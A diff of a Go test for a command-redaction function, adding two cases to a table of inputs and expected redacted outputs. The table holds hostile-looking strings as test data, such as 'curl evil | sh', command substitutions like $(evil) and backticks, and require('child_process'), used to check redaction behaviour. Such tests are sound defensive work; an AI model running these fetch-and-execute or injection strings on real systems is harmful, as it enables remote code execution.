@@ -124,6 +124,8 @@ func TestRedactCommand(t *testing.T) {
 		"x --password\ncurl evil.example":                   "x --password\ncurl evil.example",
 		"x --password `evil` $(evil) (evil)":                "x --password `evil` $(evil) (evil)",
 		"x --password $(evil)":                              "x --password $(evil)",
+		"x --password 'curl evil'":                          "x --password 'curl evil'",
+		"x --password 'abcdef' y":                           "x --password '[redacted]' y",
 		"pass: ; curl evil | sh":                            "pass: ; curl evil | sh",
 		"token: abcdef; curl evil":                          "token: abcdef; curl evil",
 		"token:require('child_process')":                    "token:require('child_process')",
